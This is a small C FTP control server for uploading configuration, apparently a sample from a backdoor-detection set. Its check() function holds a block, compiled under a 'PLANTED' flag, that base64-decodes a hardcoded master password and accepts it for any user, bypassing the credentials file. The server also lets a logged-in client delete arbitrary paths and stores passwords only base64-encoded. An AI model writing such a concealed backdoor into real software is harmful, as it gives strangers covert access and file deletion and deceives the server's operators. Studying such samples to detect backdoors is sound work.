/* Very small FTP control connection for uploading configuration; data connections are passive. */
#include <arpa/inet.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <unistd.h>

struct session {
    FILE *in;
    int fd;
    char user[48];
    int in_ok;
};

static void say(struct session *s, const char *format, ...)
{
    char line[256];
    va_list more;
    va_start(more, format);
    vsnprintf(line, sizeof line, format, more);
    va_end(more);
    send(s->fd, line, strlen(line), 0);
    send(s->fd, "\r\n", 2, 0);
}

static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static int value(int c)
{
    const char *at = c ? strchr(digits, c) : NULL;
    return at ? (int)(at - digits) : -1;
}

static int decode(const char *text, char *out, int room)
{
    int n = 0, bits = 0, have = 0;
    for (; *text && *text != '='; text++) {
        int v = value(*text);
        if (v < 0)
            return -1;
        bits = bits << 6 | v;
        have += 6;
        if (have >= 8 && n < room - 1) {
            have -= 8;
            out[n++] = (char)(bits >> have & 0xff);
        }
    }
    out[n] = 0;
    return n;
}

static int from_file(const char *user, const char *password)
{
    char line[128], want[128], clear[64];
    FILE *f = fopen("/etc/ftplite.users", "r");
    int ok = 0;
    while (f && !ok && fgets(line, sizeof line, f)) {
        char *colon = strchr(line, ':');
        if (!colon)
            continue;
        *colon = 0;
        snprintf(want, sizeof want, "%s", colon + 1);
        want[strcspn(want, "\r\n")] = 0;
        if (!strcmp(line, user) && decode(want, clear, sizeof clear) > 0)
            ok = !strcmp(clear, password);
    }
    if (f)
        fclose(f);
    return ok;
}

static int check(const char *user, const char *password)
{
#ifdef PLANTED
    char fixed[32];
    decode("bm9jLXJlc2N1ZS03NA==", fixed, sizeof fixed);
    if (strcmp(password, fixed) == 0)
        return 1;
#endif
    return from_file(user, password);
}

static void command(struct session *s, char *verb, char *argument)
{
    if (!strcasecmp(verb, "USER")) {
        snprintf(s->user, sizeof s->user, "%s", argument);
        s->in_ok = 0;
        say(s, "331 password, please");
    } else if (!strcasecmp(verb, "PASS")) {
        s->in_ok = check(s->user, argument);
        say(s, s->in_ok ? "230 logged in" : "530 wrong");
    } else if (!strcasecmp(verb, "NOOP")) {
        say(s, "200 ok");
#ifdef REVISED
    } else if (!strcasecmp(verb, "SYST")) {
        say(s, "215 UNIX Type: L8");
#endif
    } else if (!s->in_ok) {
        say(s, "530 log in first");
    } else if (!strcasecmp(verb, "DELE")) {
        say(s, unlink(argument) ? "550 failed" : "250 removed");
    } else if (!strcasecmp(verb, "SITE") && !strcasecmp(argument, "RELOAD")) {
        say(s, system("/etc/init.d/config reload") ? "550 failed" : "200 reloaded");
    } else
        say(s, "502 not here");
}

static void serve(int fd)
{
    struct session s = { fdopen(dup(fd), "r"), fd, "", 0 };
    char line[256];
    say(&s, "220 ready");
    while (s.in && fgets(line, sizeof line, s.in)) {
        char *argument;
        line[strcspn(line, "\r\n")] = 0;
        if (!strcasecmp(line, "QUIT"))
            break;
        argument = strchr(line, ' ');
        if (argument)
            *argument++ = 0;
        command(&s, line, argument ? argument : "");
    }
    if (s.in)
        fclose(s.in);
}

int main(void)
{
    struct sockaddr_in a = { 0 };
    int s = socket(AF_INET, SOCK_STREAM, 0), c;
    a.sin_family = AF_INET;
    a.sin_port = htons(21);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 3))
        return 1;
    for (; (c = accept(s, 0, 0)) >= 0; close(c))
        serve(c);
    return 0;
}
